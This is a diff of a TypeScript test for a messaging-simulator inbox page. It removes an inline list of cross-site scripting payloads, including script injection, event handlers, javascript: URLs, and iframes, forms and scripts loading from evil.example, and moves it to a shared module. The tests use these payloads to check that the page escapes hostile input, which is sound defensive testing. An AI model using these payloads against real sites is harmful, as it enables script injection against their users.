@@ -1,94 +1,16 @@
 import { parseDocument } from 'htmlparser2';
-import { controlsOf } from '../../simulator/controls';
-import { buildServer } from '../../simulator/server';
-import { State } from '../../simulator/state';
-import type { JsonObject } from '../../simulator';
+import { HOSTILE, poisonedSimulator, USER } from './hostile';
 import { elementsOf, messagesOf, type PageElement } from './page';
-import examples from '../../fixtures/official-examples.json';
 
-const ORIGIN = 'http://127.0.0.1:8765';
-const USER = 'mallory';
-/** Values that decide which message this is; hostile ones would be refused or shown as plain JSON. */
-const KEPT = new Set(['msgtype', 'card_type']);
-
-const HOSTILE = [
-	'"><img src=x onerror=alert(1)><script>alert(2)</script>',
-	"' autofocus onfocus='alert(1)",
-	'`-alert(1)-`</textarea></title></select></style><svg/onload=alert(1)>',
-	'javascript:alert(1)',
-	' jAvAsCrIpT:alert(1)',
-	'data:text/html,<script>alert(1)</script>',
-	'http://evil.example/"onload="alert(1)',
-	'//evil.example/x.png',
-	`${ORIGIN}@evil.example/x.png`,
-	`${ORIGIN}/simulator/files/" onerror="alert(1)`,
-	'<a href="javascript:alert(1)" onclick="alert(1)" style="position:fixed">x</a>',
-	'<a href="http://evil.example" target="_self" rel="opener">x</a>',
-	'[x](javascript:alert(1)) ![x](http://evil.example/x.png) [x](http://e.example/"onclick="alert(1))',
-	'<font color="info" onmouseover=alert(1) style="background:url(//evil.example)">x</font><font color="red">y</font>',
-	'<div class="gray" id="conversation" data-msgid="1" onclick=alert(1)>x</div>',
-	'<iframe src="//evil.example"></iframe><object data="//evil.example"></object><embed src="//evil.example">',
-	'<style>@import "//evil.example";</style><link rel=stylesheet href="//evil.example"><base href="//evil.example">',
-	'<form action="//evil.example"><input name=user><button formaction="//evil.example">x</button></form>',
-	'<meta http-equiv="refresh" content="0;url=//evil.example"><video src="//evil.example" poster="//evil.example">',
-	'<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
-	'</li></ol></main><script src="//evil.example"></script>',
-];
-
-/** Puts the text in the place of every text, however deep. */
-function poisoned(value: unknown, text: string): unknown {
-	if (typeof value === 'string') return text;
-	if (Array.isArray(value)) return value.map((item) => poisoned(item, text));
-	if (typeof value !== 'object' || value === null) return value;
-	return Object.fromEntries(Object.entries(value).map(([key, inner]) => [key, KEPT.has(key) ? inner : poisoned(inner, text)]));
-}
-
-const sends = examples.filter(({ name }) => name.startsWith('send.')).map(({ payload }) => payload as JsonObject);
-const updates = examples.filter(({ name }) => name.startsWith('update_template_card.')).map(({ payload }) => payload as JsonObject);
-
-/** A page with every message, every update and every text around them poisoned with one text. */
+/** The page that such a simulator shows. */
 async function poisonedPage(text: string) {
-	const member = { userid: USER, name: text, alias: text, departments: [1], licensed: true };
-	const state = new State({
-		corpId: text,
-		directory: { departments: [{ id: 1, name: text, nameEn: text, parentId: 0, order: 1, leaders: [] }], members: [member], tags: [] },
-		apps: [
-			{
-				agentId: 1,
-				secret: text,
-				name: text,
-				menu: [
-					{ name: text, type: 'click', key: text },
-					{ name: text, entries: [{ name: text, type: 'view', url: text }] },
-				],
-			},
-		],
-	});
-	const file = state.storeMedia({ type: 'file', filename: text, contentType: text, bytes: Buffer.from('<script>') });
-	const withMedia = (body: JsonObject): JsonObject => JSON.parse(JSON.stringify(body), (key, value: unknown) => (key.endsWith('media_id') ? file.id : value)) as JsonObject;
-	const members = new Set([member]);
-	for (const send of sends) {
-		const body = poisoned(send, text) as JsonObject;
-		state.mailbox.deliver(1, body, members, 1);
-		state.mailbox.deliver(1, { ...withMedia(body), safe: 1, enable_id_trans: 1 }, members, 1);
-	}
-	for (const { button, template_card: card } of updates) {
-		const { msgid } = state.mailbox.deliver(1, poisoned(sends.find(({ msgtype }) => msgtype === 'template_card'), text) as JsonObject, members, 1);
-		const update = card ? { template_card: poisoned(card, text) as JsonObject, translateIds: true } : { button: poisoned(button, text) as JsonObject };
-		state.mailbox.update(msgid, members, { at: 1, ...update });
-	}
-	state.mailbox.say({ userid: USER, agentid: 1, msgtype: 'text', content: { content: text }, at: 1, own: true });
-	state.mailbox.deliver(1, { msgtype: text, [text]: { x: text } }, members, 1);
-	state.notices.set(USER, text);
-	state.receivers.set(1, { url: text, token: text, encodingAesKey: text, corpId: text });
-	const server = buildServer(state, controlsOf(state), '', () => ({ url: ORIGIN }));
-	const url = await server.listen({ host: '127.0.0.1', port: 0 });
+	const simulator = await poisonedSimulator(text);
 	try {
-		const answer = await fetch(`${url}/simulator/inbox?user=${USER}&q=${encodeURIComponent(text.slice(0, 40))}`);
-		const { headers } = await fetch(`${url}/simulator/media/${file.id}`);
-		return { page: parseDocument(await answer.text()), headers, count: state.mailbox.all.length };
+		const answer = await fetch(`${simulator.url}/simulator/inbox?user=${USER}&q=${encodeURIComponent(text.slice(0, 40))}`);
+		const { headers } = await fetch(`${simulator.url}/simulator/media/${simulator.fileId}`);
+		return { page: parseDocument(await answer.text()), headers, count: simulator.count() };
 	} finally {
-		await server.close();
+		await simulator.close();
 	}
 }
 
